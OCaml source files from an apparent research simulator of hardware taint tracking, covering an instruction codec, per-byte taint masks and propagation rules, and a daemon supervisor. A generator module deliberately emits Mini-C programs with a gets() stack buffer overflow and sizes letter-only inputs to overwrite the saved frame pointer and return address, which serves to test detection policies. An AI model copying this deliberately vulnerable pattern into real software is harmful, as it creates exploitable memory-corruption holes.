  | Branch2 _ | Branch1 _ | J _ | Jal _ | Jr _ | Jalr _ -> true
  | _ -> false
