(** 32-bit word arithmetic on OCaml [int].

    All values are kept in [0, 2^32); [to_signed] reinterprets as a
    two's-complement signed value when an instruction calls for signed
    semantics. *)

val mask32 : int
val of_int : int -> int
(** Truncate to 32 bits. *)

val to_signed : int -> int
(** Two's-complement reinterpretation: [to_signed 0xFFFFFFFF = -1]. *)

val of_signed : int -> int
(** Inverse of {!to_signed} (truncates). *)

val add : int -> int -> int
val sub : int -> int -> int
val mul_lo : int -> int -> int
val mul_hi_signed : int -> int -> int
val mul_hi_unsigned : int -> int -> int
val div_signed : int -> int -> int * int
(** [div_signed a b] is [(quotient, remainder)] with signed semantics;
    division by zero yields [(0, a)] (no trap, as in SimpleScalar). *)

val div_unsigned : int -> int -> int * int
val sll : int -> int -> int
val srl : int -> int -> int
val sra : int -> int -> int
val sign_extend : bits:int -> int -> int
(** [sign_extend ~bits v] sign-extends the low [bits] of [v] to 32. *)

val zero_extend : bits:int -> int -> int
val byte : int -> int -> int
(** [byte v i] extracts byte [i] (0 = least significant). *)

val set_byte : int -> int -> int -> int
(** [set_byte v i b] replaces byte [i] of [v] with [b]. *)

val lt_signed : int -> int -> bool
val lt_unsigned : int -> int -> bool
