(** SIMIPS register names.

    Thirty-two general-purpose registers with the conventional MIPS
    assignment.  Register 0 is hard-wired to zero. *)

type t = int
(** Invariant: [0 <= t < 32]. *)

val zero : t
val at : t
val v0 : t
val v1 : t
val a0 : t
val a1 : t
val a2 : t
val a3 : t
val t0 : t
val t1 : t
val t2 : t
val t3 : t
val t4 : t
val t5 : t
val t6 : t
val t7 : t
val s0 : t
val s1 : t
val s2 : t
val s3 : t
val s4 : t
val s5 : t
val s6 : t
val s7 : t
val t8 : t
val t9 : t
val k0 : t
val k1 : t
val gp : t
val sp : t
val fp : t
val ra : t

val name : t -> string
(** Symbolic name, e.g. [name 29 = "sp"]. *)

val of_name : string -> t option
(** Accepts both symbolic ("sp", "v0") and numeric ("29") names. *)

val pp : Format.formatter -> t -> unit
(** Prints in the paper's numeric style: ["$3"]. *)

val pp_sym : Format.formatter -> t -> unit
(** Prints symbolically: ["$v1"]. *)
