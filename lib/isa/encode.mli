(** Binary instruction codec (MIPS-I compatible field layout).

    Used to materialise the text segment as bytes (so program sizes
    can be measured as the paper does) and by the round-trip tests;
    the interpreter itself executes the structured {!Insn.t} form. *)

val encode : Insn.t -> int
(** 32-bit encoding.  [Nop] encodes as 0. *)

val decode : ?pc:int -> int -> (Insn.t, string) result
(** [decode ~pc w] decodes [w]; [pc] supplies the high bits of
    J-format targets (the address of the instruction itself). *)

val decode_exn : ?pc:int -> int -> Insn.t
