open Insn

let rop_funct = function
  | ADD -> 0x20 | ADDU -> 0x21 | SUB -> 0x22 | SUBU -> 0x23
  | AND -> 0x24 | OR -> 0x25 | XOR -> 0x26 | NOR -> 0x27
  | SLT -> 0x2a | SLTU -> 0x2b | SLLV -> 0x04 | SRLV -> 0x06 | SRAV -> 0x07

let iop_code = function
  | ADDI -> 0x08 | ADDIU -> 0x09 | SLTI -> 0x0a | SLTIU -> 0x0b
  | ANDI -> 0x0c | ORI -> 0x0d | XORI -> 0x0e

let shop_funct = function SLL -> 0x00 | SRL -> 0x02 | SRA -> 0x03
let load_code = function LB -> 0x20 | LH -> 0x21 | LW -> 0x23 | LBU -> 0x24 | LHU -> 0x25
let store_code = function SB -> 0x28 | SH -> 0x29 | SW -> 0x2b
let muldiv_funct = function MULT -> 0x18 | MULTU -> 0x19 | DIV -> 0x1a | DIVU -> 0x1b

let r_type ~rs ~rt ~rd ~shamt ~funct =
  (rs lsl 21) lor (rt lsl 16) lor (rd lsl 11) lor (shamt lsl 6) lor funct

let i_type ~op ~rs ~rt ~imm = (op lsl 26) lor (rs lsl 21) lor (rt lsl 16) lor (imm land 0xffff)

let encode = function
  | R (((SLLV | SRLV | SRAV) as op), rd, value, amount) ->
    (* The AST keeps the shifted value first; the binary format stores
       the amount register in the rs field. *)
    r_type ~rs:amount ~rt:value ~rd ~shamt:0 ~funct:(rop_funct op)
  | R (op, rd, rs, rt) -> r_type ~rs ~rt ~rd ~shamt:0 ~funct:(rop_funct op)
  | I (op, rt, rs, imm) -> i_type ~op:(iop_code op) ~rs ~rt ~imm
  | Shift (op, rd, rt, sh) -> r_type ~rs:0 ~rt ~rd ~shamt:(sh land 31) ~funct:(shop_funct op)
  | Lui (rt, imm) -> i_type ~op:0x0f ~rs:0 ~rt ~imm
  | Load (op, rt, off, base) -> i_type ~op:(load_code op) ~rs:base ~rt ~imm:off
  | Store (op, rt, off, base) -> i_type ~op:(store_code op) ~rs:base ~rt ~imm:off
  | Branch2 (BEQ, rs, rt, off) -> i_type ~op:0x04 ~rs ~rt ~imm:off
  | Branch2 (BNE, rs, rt, off) -> i_type ~op:0x05 ~rs ~rt ~imm:off
  | Branch1 (BLEZ, rs, off) -> i_type ~op:0x06 ~rs ~rt:0 ~imm:off
  | Branch1 (BGTZ, rs, off) -> i_type ~op:0x07 ~rs ~rt:0 ~imm:off
  | Branch1 (BLTZ, rs, off) -> i_type ~op:0x01 ~rs ~rt:0 ~imm:off
  | Branch1 (BGEZ, rs, off) -> i_type ~op:0x01 ~rs ~rt:1 ~imm:off
  | J target -> (0x02 lsl 26) lor ((target lsr 2) land 0x3ffffff)
  | Jal target -> (0x03 lsl 26) lor ((target lsr 2) land 0x3ffffff)
  | Jr rs -> r_type ~rs ~rt:0 ~rd:0 ~shamt:0 ~funct:0x08
  | Jalr (rd, rs) -> r_type ~rs ~rt:0 ~rd ~shamt:0 ~funct:0x09
  | Muldiv (op, rs, rt) -> r_type ~rs ~rt ~rd:0 ~shamt:0 ~funct:(muldiv_funct op)
  | Mfhi rd -> r_type ~rs:0 ~rt:0 ~rd ~shamt:0 ~funct:0x10
  | Mthi rs -> r_type ~rs ~rt:0 ~rd:0 ~shamt:0 ~funct:0x11
  | Mflo rd -> r_type ~rs:0 ~rt:0 ~rd ~shamt:0 ~funct:0x12
  | Mtlo rs -> r_type ~rs ~rt:0 ~rd:0 ~shamt:0 ~funct:0x13
  | Syscall -> r_type ~rs:0 ~rt:0 ~rd:0 ~shamt:0 ~funct:0x0c
  | Break code -> ((code land 0xfffff) lsl 6) lor 0x0d
  | Nop -> 0

let signed16 imm = if imm land 0x8000 <> 0 then imm - 0x10000 else imm

let decode_special w =
  let rs = (w lsr 21) land 31
  and rt = (w lsr 16) land 31
  and rd = (w lsr 11) land 31
  and shamt = (w lsr 6) land 31
  and funct = w land 63 in
  match funct with
  | 0x20 -> Ok (R (ADD, rd, rs, rt))
  | 0x21 -> Ok (R (ADDU, rd, rs, rt))
  | 0x22 -> Ok (R (SUB, rd, rs, rt))
  | 0x23 -> Ok (R (SUBU, rd, rs, rt))
  | 0x24 -> Ok (R (AND, rd, rs, rt))
  | 0x25 -> Ok (R (OR, rd, rs, rt))
  | 0x26 -> Ok (R (XOR, rd, rs, rt))
  | 0x27 -> Ok (R (NOR, rd, rs, rt))
  | 0x2a -> Ok (R (SLT, rd, rs, rt))
  | 0x2b -> Ok (R (SLTU, rd, rs, rt))
  | 0x04 -> Ok (R (SLLV, rd, rt, rs))
  | 0x06 -> Ok (R (SRLV, rd, rt, rs))
  | 0x07 -> Ok (R (SRAV, rd, rt, rs))
  | 0x00 -> Ok (Shift (SLL, rd, rt, shamt))
  | 0x02 -> Ok (Shift (SRL, rd, rt, shamt))
  | 0x03 -> Ok (Shift (SRA, rd, rt, shamt))
  | 0x08 -> Ok (Jr rs)
  | 0x09 -> Ok (Jalr (rd, rs))
  | 0x0c -> Ok Syscall
  | 0x0d -> Ok (Break ((w lsr 6) land 0xfffff))
  | 0x10 -> Ok (Mfhi rd)
  | 0x11 -> Ok (Mthi rs)
  | 0x12 -> Ok (Mflo rd)
  | 0x13 -> Ok (Mtlo rs)
  | 0x18 -> Ok (Muldiv (MULT, rs, rt))
  | 0x19 -> Ok (Muldiv (MULTU, rs, rt))
  | 0x1a -> Ok (Muldiv (DIV, rs, rt))
  | 0x1b -> Ok (Muldiv (DIVU, rs, rt))
  | f -> Error (Printf.sprintf "unknown SPECIAL funct 0x%02x" f)

(* SLLV/SRLV/SRAV store the shift-amount register in the rs field, so
   decoding swaps the operands back: R (op, rd, value, amount). *)
let decode ?(pc = 0) w =
  let w = w land Word.mask32 in
  if w = 0 then Ok Nop
  else
    let op = w lsr 26 in
    let rs = (w lsr 21) land 31
    and rt = (w lsr 16) land 31
    and imm = signed16 (w land 0xffff) in
    match op with
    | 0x00 -> decode_special w
    | 0x01 when rt = 0 -> Ok (Branch1 (BLTZ, rs, imm))
    | 0x01 when rt = 1 -> Ok (Branch1 (BGEZ, rs, imm))
    | 0x01 -> Error "unknown REGIMM rt"
    | 0x02 -> Ok (J ((pc land 0xF0000000) lor ((w land 0x3ffffff) lsl 2)))
    | 0x03 -> Ok (Jal ((pc land 0xF0000000) lor ((w land 0x3ffffff) lsl 2)))
    | 0x04 -> Ok (Branch2 (BEQ, rs, rt, imm))
    | 0x05 -> Ok (Branch2 (BNE, rs, rt, imm))
    | 0x06 -> Ok (Branch1 (BLEZ, rs, imm))
    | 0x07 -> Ok (Branch1 (BGTZ, rs, imm))
    | 0x08 -> Ok (I (ADDI, rt, rs, imm))
    | 0x09 -> Ok (I (ADDIU, rt, rs, imm))
    | 0x0a -> Ok (I (SLTI, rt, rs, imm))
    | 0x0b -> Ok (I (SLTIU, rt, rs, imm))
    | 0x0c -> Ok (I (ANDI, rt, rs, imm land 0xffff))
    | 0x0d -> Ok (I (ORI, rt, rs, imm land 0xffff))
    | 0x0e -> Ok (I (XORI, rt, rs, imm land 0xffff))
    | 0x0f -> Ok (Lui (rt, imm land 0xffff))
    | 0x20 -> Ok (Load (LB, rt, imm, rs))
    | 0x21 -> Ok (Load (LH, rt, imm, rs))
    | 0x23 -> Ok (Load (LW, rt, imm, rs))
    | 0x24 -> Ok (Load (LBU, rt, imm, rs))
    | 0x25 -> Ok (Load (LHU, rt, imm, rs))
    | 0x28 -> Ok (Store (SB, rt, imm, rs))
    | 0x29 -> Ok (Store (SH, rt, imm, rs))
    | 0x2b -> Ok (Store (SW, rt, imm, rs))
    | op -> Error (Printf.sprintf "unknown opcode 0x%02x" op)

let decode_exn ?pc w =
  match decode ?pc w with Ok i -> i | Error e -> invalid_arg ("Encode.decode_exn: " ^ e)
