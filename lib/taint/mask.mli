(** Per-byte taintedness masks.

    A mask is a small bitset with one bit per byte of a datum: bit [i]
    set means byte [i] (byte 0 = least significant) is tainted, i.e.
    derived from external input (paper, section 4.1).  Masks for
    32-bit words use 4 bits; the operations are width-generic so the
    same type also describes half-words and larger buffers. *)

type t = int
(** Invariant: non-negative.  Bit [i] = taintedness of byte [i]. *)

val none : t
(** The fully-untainted mask. *)

val all : bytes:int -> t
(** [all ~bytes] taints every one of the [bytes] low bytes. *)

val word : t
(** [all ~bytes:4] — the fully tainted 32-bit word mask. *)

val is_tainted : t -> bool
(** [is_tainted m] is true iff any byte is tainted. *)

val byte : t -> int -> bool
(** [byte m i] is the taintedness of byte [i]. *)

val set_byte : t -> int -> t
(** [set_byte m i] taints byte [i]. *)

val clear_byte : t -> int -> t
(** [clear_byte m i] untaints byte [i]. *)

val of_byte : bool -> t
(** Mask of a single byte datum. *)

val union : t -> t -> t
(** Per-byte OR — the default propagation of Table 1. *)

val inter : t -> t -> t
(** Per-byte AND. *)

val restrict : t -> bytes:int -> t
(** Keep only the [bytes] low byte bits. *)

val tainted_bytes : t -> int
(** Number of tainted bytes in the mask. *)

val of_bools : bool list -> t
(** [of_bools [b0; b1; ...]] builds a mask with byte [i] tainted iff
    [bi]; byte 0 first. *)

val to_bools : bytes:int -> t -> bool list

val pp : ?bytes:int -> Format.formatter -> t -> unit
(** Prints e.g. "0011" for a word whose two low bytes are tainted
    (most significant byte first, as in the paper's examples). *)

val equal : t -> t -> bool
