let default = Mask.union

type direction = Left | Right

(* Taint moves with the data by whole bytes; a fractional-byte shift
   additionally smears each tainted byte onto its neighbour in the
   shift direction, since its bits straddle two result bytes. *)
let shift dir ~amount ~amount_mask m =
  if Mask.is_tainted amount_mask then
    if Mask.is_tainted m then Mask.word else Mask.none
  else
    let amount = amount land 31 in
    let whole = amount / 8 and frac = amount mod 8 in
    let moved =
      match dir with
      | Left -> m lsl whole
      | Right -> m lsr whole
    in
    let smeared =
      if frac = 0 then moved
      else
        match dir with
        | Left -> moved lor (moved lsl 1)
        | Right -> moved lor (moved lsr 1)
    in
    Mask.restrict smeared ~bytes:4

let byte_of v i = (v lsr (8 * i)) land 0xff

let and_bytes ~v1 ~m1 ~v2 ~m2 =
  let result = ref Mask.none in
  for i = 0 to 3 do
    let zero1 = byte_of v1 i = 0 && not (Mask.byte m1 i) in
    let zero2 = byte_of v2 i = 0 && not (Mask.byte m2 i) in
    if (not zero1) && not zero2 && (Mask.byte m1 i || Mask.byte m2 i) then
      result := Mask.set_byte !result i
  done;
  !result

let or_bytes ~v1 ~m1 ~v2 ~m2 =
  let result = ref Mask.none in
  for i = 0 to 3 do
    let ones1 = byte_of v1 i = 0xff && not (Mask.byte m1 i) in
    let ones2 = byte_of v2 i = 0xff && not (Mask.byte m2 i) in
    if (not ones1) && not ones2 && (Mask.byte m1 i || Mask.byte m2 i) then
      result := Mask.set_byte !result i
  done;
  !result

let xor_same = Mask.none
let compare_untaint = Mask.none

let merge_partial ~old_mask ~new_mask ~offset ~bytes =
  let keep = lnot (Mask.all ~bytes lsl offset) in
  let insert = Mask.restrict new_mask ~bytes lsl offset in
  Mask.restrict ((old_mask land keep) lor insert) ~bytes:4
