(** Taintedness propagation rules — Table 1 of the paper.

    Each function computes the taint mask of an ALU result from the
    operand values and masks.  The CPU chooses the rule from the
    opcode, mirroring the multiplexer of Figure 3. *)

val default : Mask.t -> Mask.t -> Mask.t
(** Generic ALU rule: per-byte OR of the source masks.  ("Taintedness
    of R1 = (Taintedness of R2) or (Taintedness of R3)".) *)

type direction = Left | Right

val shift : direction -> amount:int -> amount_mask:Mask.t -> Mask.t -> Mask.t
(** Shift rule: taint travels with the shifted bytes, and — when the
    shift amount is not a whole number of bytes — each tainted byte
    also taints its adjacent byte along the shift direction ("if a
    byte in the operand register is tainted, the taintedness bit of
    its adjacent byte along the direction of shifting is set to 1").
    A tainted shift amount conservatively taints the whole result if
    the operand carries any taint. *)

val and_bytes : v1:int -> m1:Mask.t -> v2:int -> m2:Mask.t -> Mask.t
(** AND rule: per-byte OR, except that any byte AND-ed with an
    untainted zero byte is untainted (the result is the constant 0
    regardless of user input). *)

val or_bytes : v1:int -> m1:Mask.t -> v2:int -> m2:Mask.t -> Mask.t
(** Dual of {!and_bytes} for OR: a byte OR-ed with an untainted 0xff
    byte is the constant 0xff, hence untainted.  Not in Table 1; kept
    behind {!Policy} in the CPU and off by default. *)

val xor_same : Mask.t
(** [XOR R1,R2,R2] zeroing idiom: the result is the constant 0, so
    its taintedness is 0000. *)

val compare_untaint : Mask.t
(** Mask assigned to {e both operand registers} of a compare
    instruction: data that underwent validation is trusted
    (Table 1, "Untaint every byte in the operands"). *)

val merge_partial : old_mask:Mask.t -> new_mask:Mask.t -> offset:int -> bytes:int -> Mask.t
(** [merge_partial ~old_mask ~new_mask ~offset ~bytes] overlays the
    [bytes] low byte-bits of [new_mask] at byte [offset] of
    [old_mask]; used for sub-word stores and loads. *)
