type t = int

let none = 0
let all ~bytes = (1 lsl bytes) - 1
let word = all ~bytes:4
let is_tainted m = m <> 0
let byte m i = m land (1 lsl i) <> 0
let set_byte m i = m lor (1 lsl i)
let clear_byte m i = m land lnot (1 lsl i)
let of_byte b = if b then 1 else 0
let union = ( lor )
let inter = ( land )
let restrict m ~bytes = m land all ~bytes
let equal = Int.equal

let tainted_bytes m =
  let rec count acc m = if m = 0 then acc else count (acc + (m land 1)) (m lsr 1) in
  count 0 m

let of_bools bs =
  List.fold_left (fun (i, m) b -> (i + 1, if b then set_byte m i else m)) (0, none) bs
  |> snd

let to_bools ~bytes m = List.init bytes (byte m)

let pp ?(bytes = 4) ppf m =
  for i = bytes - 1 downto 0 do
    Format.pp_print_char ppf (if byte m i then '1' else '0')
  done
