(** Tainted 32-bit words: a machine word paired with its per-byte
    taintedness mask.  This is the datum that flows through the
    extended register file, pipeline latches, caches and memory of the
    paper's architecture (section 4.1). *)

type t = private { v : int; m : Mask.t }
(** [v] is the 32-bit value (invariant: [0 <= v < 2^32]); [m] its
    4-bit taint mask. *)

val make : v:int -> m:Mask.t -> t
(** Masks [v] to 32 bits and [m] to 4 byte-bits. *)

val untainted : int -> t
val tainted : int -> t
(** [tainted v] marks all four bytes tainted. *)

val zero : t
val value : t -> int
val mask : t -> Mask.t
val is_tainted : t -> bool
val with_value : t -> int -> t
val with_mask : t -> Mask.t -> t
val equal : t -> t -> bool
val pp : Format.formatter -> t -> unit
(** Prints as [0x<hex>[t:0011]]; the taint suffix is omitted when the
    word is clean. *)
