(** Tainted 32-bit words: a machine word paired with its per-byte
    taintedness mask.  This is the datum that flows through the
    extended register file, pipeline latches, caches and memory of the
    paper's architecture (section 4.1).

    Representation: a single immediate [int] packing the 32-bit value
    into bits 0-31 and the 4-bit byte mask into bits 32-35.  Every
    operation below is allocation-free, and arrays of [t] are flat
    [int] arrays — this is what makes the simulator's per-instruction
    tag handling cheap (the tag-storage cost axis of the hardware
    taint-tracking literature). *)

type t = private int
(** Invariant: [0 <= t < 2^36]; bits 0-31 the value, bits 32-35 the
    mask.  [private] so the packing is only built by {!make} and
    friends, while [(w :> int)] remains a free coercion for flat
    storage. *)

val make : v:int -> m:Mask.t -> t
(** Masks [v] to 32 bits and [m] to 4 byte-bits. *)

val untainted : int -> t
val tainted : int -> t
(** [tainted v] marks all four bytes tainted. *)

val zero : t
val value : t -> int
val mask : t -> Mask.t
val is_tainted : t -> bool
val with_value : t -> int -> t
val with_mask : t -> Mask.t -> t
val equal : t -> t -> bool

val to_bits : t -> int
(** The raw 36-bit packing, for flat tag-plane storage.  The identity
    function at runtime. *)

val of_bits : int -> t
(** Reconstruct a word from {!to_bits} output; masks stray high bits. *)

val pp : Format.formatter -> t -> unit
(** Prints as [0x<hex>[t:0011]]; the taint suffix is omitted when the
    word is clean. *)
