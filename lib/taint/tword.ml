(* A tainted word is a single immediate [int]: value in bits 0-31,
   per-byte taint mask in bits 32-35.  Nothing here allocates. *)

type t = int

let mask32 = 0xFFFFFFFF
let tag_bits = 0xF lsl 32

let make ~v ~m = (Mask.restrict m ~bytes:4 lsl 32) lor (v land mask32)
let untainted v = v land mask32
let tainted v = tag_bits lor (v land mask32)
let zero = 0
let value w = w land mask32
let mask w = w lsr 32
let is_tainted w = w lsr 32 <> 0
let with_value w v = (w land tag_bits) lor (v land mask32)
let with_mask w m = (Mask.restrict m ~bytes:4 lsl 32) lor (w land mask32)
let equal = Int.equal

let to_bits w = w
let of_bits b = b land (tag_bits lor mask32)

let pp ppf w =
  if is_tainted w then
    Format.fprintf ppf "0x%08x[t:%a]" (value w) (Mask.pp ?bytes:None) (mask w)
  else Format.fprintf ppf "0x%08x" (value w)
