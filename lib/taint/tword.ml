type t = { v : int; m : Mask.t }

let mask32 = 0xFFFFFFFF
let make ~v ~m = { v = v land mask32; m = Mask.restrict m ~bytes:4 }
let untainted v = make ~v ~m:Mask.none
let tainted v = make ~v ~m:Mask.word
let zero = untainted 0
let value w = w.v
let mask w = w.m
let is_tainted w = Mask.is_tainted w.m
let with_value w v = make ~v ~m:w.m
let with_mask w m = make ~v:w.v ~m
let equal a b = a.v = b.v && Mask.equal a.m b.m

let pp ppf w =
  if Mask.is_tainted w.m then Format.fprintf ppf "0x%08x[t:%a]" w.v (Mask.pp ?bytes:None) w.m
  else Format.fprintf ppf "0x%08x" w.v
