(** Seeded grammar-based Mini-C program/attack generator.

    Emits {!Ptaint_campaign.Job.t} streams for generative campaigns.
    Job [i] is a pure function of [(spec, i)] — no generator state is
    threaded between jobs — so the stream is identical at every [-j]
    level and a checkpointed campaign resumes with {!jobs_from} at the
    manifest cursor without replaying the prefix.

    Programs are exp1-family stack-smash handlers (a [gets] into a
    stack buffer that is the frame's highest local); variants differ
    in buffer size and in arithmetic helper functions that move
    detection pcs around.  Each generated case is a (variant, payload)
    pair run once per policy, with payloads split between benign
    lines, saved-frame-pointer clobbers and return-address clobbers. *)

type spec

(** Policy sweep applied to every case, in order: ["none"],
    ["control-only"], ["full"] (see {!Ptaint_sim.Sim.policy_of_label}). *)
val default_policy_labels : string list

(** [spec ~seed ~jobs ()] describes a campaign of [jobs] jobs.
    [variants] (default 8) bounds the distinct-program pool — the
    image cache hit rate is [1 - variants/jobs] in the steady state.
    [policies] (default {!default_policy_labels}) are policy labels;
    unknown labels raise [Invalid_argument]. *)
val spec : ?variants:int -> ?policies:string list -> seed:int -> jobs:int -> unit -> spec

val jobs_of : spec -> int
val policies_of : spec -> string list

(** Campaign identity string embedded in checkpoint manifests; equal
    ids generate equal job streams. *)
val id : spec -> string

(** [job t i] is job [i] (raises [Invalid_argument] outside
    [0 .. jobs_of t - 1]).  Case [i / length policies] under policy
    [i mod length policies]: one case's policy sweep is adjacent in
    the stream. *)
val job : spec -> int -> Ptaint_campaign.Job.t

(** Case index of job [i] — jobs with equal case share program and
    payload and differ only in policy. *)
val case_of : spec -> int -> int

(** The policy label job [i] runs under (for building wire specs;
    {!job} itself leaves [Job.policy_label] unset so the campaign
    engine derives the canonical label, exactly as the daemon does). *)
val policy_label : spec -> int -> string

(** Generated Mini-C source of variant [v mod variants] (debugging /
    corpus inspection). *)
val source : spec -> int -> string

val jobs : spec -> Ptaint_campaign.Job.t Seq.t

(** [jobs_from t cursor] — the suffix of {!jobs} starting at job
    [cursor]; the resume entry point. *)
val jobs_from : spec -> int -> Ptaint_campaign.Job.t Seq.t
