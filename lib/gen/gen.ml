(* Seeded grammar-based program/attack generator.

   A generative campaign is a pure function of its spec: job [i] is
   derived from [(spec, i)] alone, with no generator state threaded
   between jobs.  That is the property everything else leans on —
   the stream is identical at any [-j] level (jobs are indexed, not
   raced for), and a resumed campaign re-derives jobs [cursor..]
   without replaying the prefix.

   The generator emits Mini-C programs in the paper's exp1 family: a
   handler with a stack buffer as its first (highest) local reads one
   stdin line with [gets], so an over-long line walks up the frame
   into the saved frame pointer and return address.  Variants differ
   in buffer size and in the arithmetic helpers the handler calls
   (which move code around and give each variant distinct detection
   pcs); payloads differ in length — benign, frame-pointer clobber,
   or return-address clobber — and each case is run once per policy
   so the campaign measures where the policies disagree. *)

module Rng = Ptaint_fi.Fi.Rng

type spec = {
  seed : int;
  jobs : int;
  variants : int;
  policies : (string * Ptaint_cpu.Policy.t) list;  (* label, resolved *)
}

let default_policy_labels = [ "none"; "control-only"; "full" ]

let spec ?(variants = 8) ?(policies = default_policy_labels) ~seed ~jobs () =
  if jobs < 0 then invalid_arg "Gen.spec: negative job count";
  if variants < 1 then invalid_arg "Gen.spec: variants must be >= 1";
  if policies = [] then invalid_arg "Gen.spec: empty policy list";
  let policies =
    List.map
      (fun label ->
        match Ptaint_sim.Sim.policy_of_label label with
        | Ok p -> (label, p)
        | Error e -> invalid_arg ("Gen.spec: " ^ e))
      policies
  in
  { seed; jobs; variants; policies }

let jobs_of t = t.jobs
let policies_of t = List.map fst t.policies

(* Campaign identity baked into checkpoint manifests: two specs with
   the same id generate the same job stream, so resuming under a
   different seed/shape is refused up front. *)
let id t =
  Printf.sprintf "gen:v1:seed=%d:jobs=%d:variants=%d:policies=%s" t.seed t.jobs t.variants
    (String.concat "," (List.map fst t.policies))

(* Independent deterministic streams per (seed, salt, index): a
   splitmix-style finalizer so adjacent indices land far apart and the
   program stream never correlates with the payload stream. *)
let mix seed salt i =
  let h = seed lxor (salt * 0x9e3779b1) lxor (i * 0x85ebca77) in
  let h = h lxor (h lsr 16) in
  let h = h * 0x7feb352d in
  let h = h lxor (h lsr 15) in
  let h = h * 0x846ca68b in
  (h lxor (h lsr 16)) land max_int

let salt_program = 1
let salt_payload = 2

let pad4 n = (n + 3) land lnot 3

(* --- program variants --- *)

type variant = {
  v_index : int;
  v_buf : int;  (* declared buffer size *)
  v_source : string;
}

let variant t v =
  let r = Rng.create (mix t.seed salt_program v) in
  let buf = 8 + Rng.int r 57 in
  let helpers = 1 + Rng.int r 3 in
  let magic = 1000 + Rng.int r 9000 in
  let b = Buffer.create 1024 in
  let line fmt = Printf.ksprintf (fun s -> Buffer.add_string b s; Buffer.add_char b '\n') fmt in
  line "/* generated: variant %d, buf[%d], %d helpers */" v buf helpers;
  for h = 0 to helpers - 1 do
    let c1 = 1 + Rng.int r 99 and c2 = 1 + Rng.int r 199 and c3 = 1 + Rng.int r 49 in
    line "int mix%d(int x) {" h;
    line "  int a;";
    line "  a = x + %d;" c1;
    line "  if (a > %d) { a = a - %d; }" c2 c3;
    line "  return a;";
    line "}";
    line ""
  done;
  line "void handle(void) {";
  line "  char buf[%d];" buf;
  line "  int i;";
  line "  int sum;";
  line "  gets(buf);";
  line "  sum = 0;";
  line "  for (i = 0; i < %d; i++) {" buf;
  line "    sum = sum + buf[i];";
  line "  }";
  for h = 0 to helpers - 1 do
    line "  sum = mix%d(sum);" h
  done;
  line "  if (sum == %d) { puts(\"magic\"); }" magic;
  line "  puts(\"handled\");";
  line "}";
  line "";
  line "int main(void) {";
  line "  handle();";
  line "  puts(\"done\");";
  line "  return 0;";
  line "}";
  { v_index = v; v_buf = buf; v_source = Buffer.contents b }

let source t v = (variant t (v mod t.variants)).v_source

(* --- payloads --- *)

type attack = Benign | Fp_clobber | Ra_clobber

let attack_name = function
  | Benign -> "benign"
  | Fp_clobber -> "fp-clobber"
  | Ra_clobber -> "ra-clobber"

(* Frame layout (see Cgen): buf is the handler's first local, so it
   sits just under the saved FP; bytes [pad4 buf .. pad4 buf + 3]
   overwrite the saved frame pointer and the next four the return
   address.  [gets] stops at newline, so payload bytes are letters. *)
let payload_for r (v : variant) =
  let attack =
    match Rng.int r 4 with 0 -> Benign | 1 -> Fp_clobber | _ -> Ra_clobber
  in
  let len =
    match attack with
    | Benign -> 1 + Rng.int r (max 1 (v.v_buf - 1))
    | Fp_clobber -> pad4 v.v_buf + 4
    | Ra_clobber -> pad4 v.v_buf + 8
  in
  let bytes =
    String.init len (fun _ ->
        let k = Rng.int r 52 in
        if k < 26 then Char.chr (Char.code 'A' + k) else Char.chr (Char.code 'a' + k - 26))
  in
  (attack, bytes ^ "\n")

(* --- jobs --- *)

let npolicies t = List.length t.policies

(* Job [i] runs case [i / npolicies] under policy [i mod npolicies]:
   the policy sweep for one case is adjacent in the stream, so a
   consumer watching results in submission order can fold per-case
   policy disagreement without buffering more than one case. *)
let job t i =
  if i < 0 || i >= t.jobs then invalid_arg "Gen.job: index out of range";
  let np = npolicies t in
  let case = i / np in
  let label, policy = List.nth t.policies (i mod np) in
  let v = variant t (case mod t.variants) in
  let r = Rng.create (mix t.seed salt_payload case) in
  let attack, stdin = payload_for r v in
  let config =
    { Ptaint_sim.Sim.default_config with Ptaint_sim.Sim.policy; stdin }
  in
  let tag =
    Printf.sprintf "gen/c%05d/v%02d/%s/%s" case v.v_index (attack_name attack) label
  in
  Ptaint_campaign.Job.make ~tag ~config (Ptaint_campaign.Job.C_source v.v_source)

let case_of t i = i / npolicies t
let policy_label t i = fst (List.nth t.policies (i mod npolicies t))

let jobs_from t start =
  let rec from i () =
    if i >= t.jobs then Seq.Nil else Seq.Cons (job t i, from (i + 1))
  in
  from (max 0 start)

let jobs t = jobs_from t 0
