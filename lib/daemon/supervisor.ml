(* ptaintd supervision tree: fork N worker processes, ship jobs to
   them over Proto-framed pipes, and keep the service alive when a
   worker wedges, crashes, or is killed out from under it.

   Ownership: the supervisor lives entirely on the daemon's event
   loop — every entry point here runs on the serving thread, so there
   is no locking.  Workers are detected sick three ways:

   - EOF (or garbage) on the worker's up pipe: the worker crashed or
     was SIGKILLed.  Immediate.
   - missed heartbeats while idle: an idle worker Pongs every
     [beat_interval]; silence past [beat_tolerance] means it is
     stopped or wedged (SIGSTOP, runaway GC) even though the pipe is
     open.
   - a blown dispatch deadline while busy: the in-worker cooperative
     watchdog fires at the job's timeout and produces a typed Timeout
     — the supervisor only steps in [grace] seconds later, when the
     worker is provably stuck in non-yielding code (or stopped) and
     cooperation has failed.

   A sick worker is SIGKILLed, reaped, and respawned with jittered
   exponential backoff.  Its in-flight job is redelivered to a
   surviving worker — bounded by [max_deliveries] — so an innocent
   job disturbed by a worker death completes normally and the
   campaign's final counters stay byte-identical to an undisturbed
   run.  A job that exhausts its deliveries is synthesized into the
   typed failure the cooperative path would have produced (timeout
   when its deadline blew, crashed otherwise), with the exact
   {!Ptaint_campaign.Campaign.failure_counters} shape. *)

module Campaign = Ptaint_campaign.Campaign
module Log = Ptaint_obs.Log
module Metrics = Ptaint_obs.Metrics

type dispatch = {
  d_id : int;  (* server-side job id; rewritten onto worker events *)
  d_cid : int;
  d_spec : Proto.job_spec;
  d_tag : string;
  d_label : string;  (* canonical policy label, for synthesized failures *)
  d_trace : (int * int) option;
  d_timeout : float option;  (* job's own, else the server default *)
  mutable d_deliveries : int;
  mutable d_started : float;  (* dispatch time of the current delivery *)
  mutable d_expired : bool;  (* the preemptive deadline fired *)
}

type worker = {
  w_index : int;
  mutable w_pid : int;
  mutable w_down : Unix.file_descr;  (* supervisor writes requests *)
  mutable w_up : Unix.file_descr;  (* supervisor reads responses *)
  w_buf : Buffer.t;
  mutable w_busy : dispatch option;
  mutable w_last_beat : float;
  mutable w_alive : bool;
  mutable w_restarts : int;  (* consecutive, drives the backoff *)
  mutable w_respawn_at : float;
}

(* What the server needs to account a terminal event without the
